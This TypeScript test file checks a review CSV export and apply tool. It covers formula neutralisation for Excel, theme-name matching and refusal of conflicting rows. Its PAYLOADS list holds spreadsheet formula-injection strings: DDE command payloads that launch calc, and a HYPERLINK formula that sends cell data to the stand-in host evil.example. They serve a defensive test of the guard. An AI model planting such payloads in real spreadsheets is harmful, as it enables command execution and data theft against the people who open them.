/**
 * review.csv as an analyst meets it in Excel: formula-looking statements neutralised and restored
 * exactly on apply, theme names (as the note prints them) accepted, conflicting rows refused.
 */
import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { afterEach, describe, expect, it } from 'vitest';
import { loadTaxonomy } from '../../src/classify/taxonomy.js';
import { applyReview, exportReview, REVIEW_COLUMNS, ReviewError, themeResolver } from '../../src/review/index.js';
import { openStore, type Store } from '../../src/store/index.js';
import { makeDoc, tempDir } from '../store/fixtures.js';
import { makePriority } from '../shared-fixtures.js';

const TAXONOMY = loadTaxonomy();
const IDS = new Set(TAXONOMY.themes.map((t) => t.id));
const label = (id: string) => TAXONOMY.themes.find((t) => t.id === id)!.label;

/** Statements that a spreadsheet would run as formulas, and one that merely looks guarded. */
const PAYLOADS = [
  '=1+1',
  "-2+3+cmd|' /C calc'!A0",
  '-1+HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '+44 1632 960000 helpline',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1 tab first',
  "'=already quoted by its author",
];

const open: Store[] = [];
afterEach(() => {
  for (const s of open.splice(0)) s.close();
});

type Row = Record<string, string>;
const readCsv = (file: string): Row[] => parse(fs.readFileSync(file), { bom: true, columns: true }) as Row[];
/** Written back as a spreadsheet would save it (UTF-8 with BOM, cells as they were read). */
const writeCsv = (file: string, rows: Row[]): void =>
  fs.writeFileSync(file, '\uFEFF' + stringify(rows, { header: true, columns: [...REVIEW_COLUMNS] }));

function seeded(texts: string[]): { store: Store; file: string } {
  const dir = tempDir('review-excel');
  const store = openStore(path.join(dir, 'planscan.db'));
  open.push(store);
  const run = store.beginRun({ year: 2024, sourcesFile: 'sources.yaml' });
  store.saveDocument(run, makeDoc('csp-north', 2024), texts.map((t, i) =>
    makePriority('csp-north', { id: `p${i + 1}`, text: t, kind: 'crime', theme: 'anti_social_behaviour', quote: `Quote: ${t}`, section: t }),
  ));
  return { store, file: path.join(dir, '2024', 'review.csv') };
}

describe('review.csv formula guard', () => {
  it('exports every payload neutralised, and apply reads back exactly the stored text', () => {
    const { store, file } = seeded(PAYLOADS);
    expect(exportReview(store, 2024, file)).toBe(PAYLOADS.length);
    const rows = readCsv(file);
    for (const r of rows) {
      for (const c of REVIEW_COLUMNS) expect(r[c], `${r.id} ${c}`).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(rows.map((r) => r.text)).toEqual(PAYLOADS.map((p) => `'${p}`));
    expect(rows.find((r) => r.id === 'p1')!.theme_name).toBe(label('anti_social_behaviour'));

    // The analyst changes every row; apply must find each statement under its stored text.
    for (const r of rows) r.kind_override = 'mechanism';
    writeCsv(file, rows);
    const res = applyReview(store, file, IDS);
    expect(res).toMatchObject({ rows: PAYLOADS.length, overrides: PAYLOADS.length, trainingExamples: PAYLOADS.length });
    expect(store.trainingExamples().map((e) => e.text).sort()).toEqual([...PAYLOADS].sort());
    expect(store.reviews(2024).map((r) => r.text).sort()).toEqual([...PAYLOADS].sort());
  });
});

describe('review apply: theme names', () => {
  it('accepts the name as the note prints it, in any case and spacing, and the id in any case', () => {
    const { store, file } = seeded(['Town centre at night', 'Late licensed premises', 'Bars and clubs', 'Nuisance', 'Phone scams']);
    exportReview(store, 2024, file);
    const rows = readCsv(file);
    rows[0]!.theme_override = label('night_time_economy');
    rows[1]!.theme_override = label('night_time_economy').toUpperCase().replace('-', ' ');
    rows[2]!.theme_override = 'Night_Time_Economy';
    rows[3]!.theme_override = ` ${label('anti_social_behaviour').toLowerCase()} `;
    rows[4]!.theme_override = label('fraud');
    writeCsv(file, rows);
    applyReview(store, file, IDS);
    const byId = new Map(store.reviews(2024).map((r) => [r.priorityId, r.analystTheme]));
    expect([...byId.entries()].sort()).toEqual([
      ['p1', 'night_time_economy'], ['p2', 'night_time_economy'], ['p3', 'night_time_economy'], ['p4', 'anti_social_behaviour'], ['p5', 'fraud'],
    ]);
  });

  it('an unknown name names the row and column and suggests taxonomy names; nothing is applied', () => {
    const { store, file } = seeded(['Town centre at night', 'Phone scams', 'Something else']);
    exportReview(store, 2024, file);
    const rows = readCsv(file);
    rows[0]!.theme_override = 'Nite-time economy';
    rows[1]!.theme_override = 'scams';
    rows[2]!.theme_override = 'qqqqqqqq';
    writeCsv(file, rows);
    let err: unknown;
    try {
      applyReview(store, file, IDS);
    } catch (e) {
      err = e;
    }
    expect(err).toBeInstanceOf(ReviewError);
    const problems = (err as ReviewError).problems;
    expect(problems).toHaveLength(3);
    expect(problems[0]).toBe(
      `review.csv row 2, column theme_override: 'Nite-time economy' is not a theme id or name; did you mean '${label('night_time_economy')}' (night_time_economy)?`,
    );
    expect(problems[1]).toContain(`row 3, column theme_override: 'scams' is not a theme id or name; did you mean '${label('fraud')}' (fraud)`);
    expect(problems[2]).toMatch(/^review\.csv row 4, column theme_override: 'qqqqqqqq' is not a theme id or name; use a theme name/);
    expect(store.reviews()).toEqual([]);
    expect(store.overrides().size).toBe(0);
  });

  it('the resolver refuses a name two themes share', () => {
    const resolve = themeResolver(new Map([['a_one', 'Same name'], ['b_two', 'Same  NAME']]));
    expect(resolve('same name')).toEqual({ ok: false, suggestions: ["'Same name' (a_one)", "'Same  NAME' (b_two)"] });
    expect(resolve('A_ONE')).toEqual({ ok: true, id: 'a_one' });
  });
});

describe('review apply: the same statement twice', () => {
  it('the same id with different overrides is an error naming both rows; nothing is stored', () => {
    const { store, file } = seeded(['Nuisance', 'Phone scams']);
    exportReview(store, 2024, file);
    const rows = readCsv(file);
    rows[0]!.theme_override = 'fraud';
    writeCsv(file, [...rows, { ...rows[0]!, theme_override: 'night_time_economy' }]);
    expect(() => applyReview(store, file, IDS)).toThrow(
      "review.csv rows 2 and 4, column id: statement 'p1' is listed twice with different overrides " +
        "(row 2: theme_override 'fraud'; row 4: theme_override 'night_time_economy'): keep one row",
    );
    expect(store.overrides().size).toBe(0);
    expect(store.reviews()).toEqual([]);
  });

  it('an exact repeat is applied once and counted once', () => {
    const { store, file } = seeded(['Nuisance', 'Phone scams']);
    exportReview(store, 2024, file);
    const rows = readCsv(file);
    rows[0]!.theme_override = 'fraud';
    writeCsv(file, [...rows, { ...rows[0]! }]);
    const res = applyReview(store, file, IDS);
    expect(res).toMatchObject({ rows: 3, duplicates: 1, recorded: 2, reviewed: 1, overrides: 1, trainingExamples: 1 });
    expect(store.overrides().size).toBe(res.overrides);
  });

  it('two ids with the same text and different changes are refused (overrides are stored by text)', () => {
    const dir = tempDir('review-excel');
    const store = openStore(path.join(dir, 'planscan.db'));
    open.push(store);
    const run = store.beginRun({ year: 2024, sourcesFile: 'sources.yaml' });
    store.saveDocument(run, makeDoc('csp-north', 2024), [makePriority('csp-north', { id: 'n1', text: 'Tackling fraud & scams', theme: 'fraud' })]);
    store.saveDocument(run, makeDoc('csp-south', 2024), [makePriority('csp-south', { id: 's1', text: 'Tackling fraud and scams.', theme: 'fraud' })]);
    const file = path.join(dir, 'review.csv');
    exportReview(store, 2024, file);
    const rows = readCsv(file);
    rows[0]!.kind_override = 'mechanism';
    rows[1]!.kind_override = 'target_group';
    writeCsv(file, rows);
    expect(() => applyReview(store, file, IDS)).toThrow(/rows 2 and 3: statements 'n1' and 's1' have the same text .* but different overrides/);
    rows[1]!.kind_override = 'mechanism';
    writeCsv(file, rows);
    const res = applyReview(store, file, IDS);
    expect(res).toMatchObject({ reviewed: 2, overrides: 1 });
    expect(store.overrides().size).toBe(1);
  });
});

describe('review apply: a row left empty and the same id changed', () => {
  it('is a conflict too (the reviews table keeps one decision per statement)', () => {
    const { store, file } = seeded(['Nuisance']);
    exportReview(store, 2024, file);
    const rows = readCsv(file);
    writeCsv(file, [...rows, { ...rows[0]!, kind_override: 'mechanism' }]);
    expect(() => applyReview(store, file, IDS)).toThrow("(row 2: no override; row 3: kind_override 'mechanism'): keep one row");
    expect(store.reviews()).toEqual([]);
  });
});

describe('review apply: an id Excel turned into a number', () => {
  it('is matched by source and text; a wrong id that is not a number is still refused', () => {
    const { store, file } = seeded(['Nuisance', 'Phone scams']);
    exportReview(store, 2024, file);
    const rows = readCsv(file);
    // What Excel saves for the id "1234567890123456" (or "12e3..."), read as a number.
    rows[1]!.id = '1.23457E+15';
    rows[1]!.theme_override = 'fraud';
    writeCsv(file, rows);
    const res = applyReview(store, file, IDS);
    expect(res).toMatchObject({ recorded: 2, overrides: 1 });
    expect(store.reviews(2024).find((r) => r.analystTheme === 'fraud')!.priorityId).toBe('p2');
    rows[1]!.id = '1.23457E+15';
    rows[1]!.text = 'Phone scams!';
    writeCsv(file, rows);
    expect(() => applyReview(store, file, IDS)).toThrow("row 3, column id: '1.23457E+15' is not a statement");
  });
});
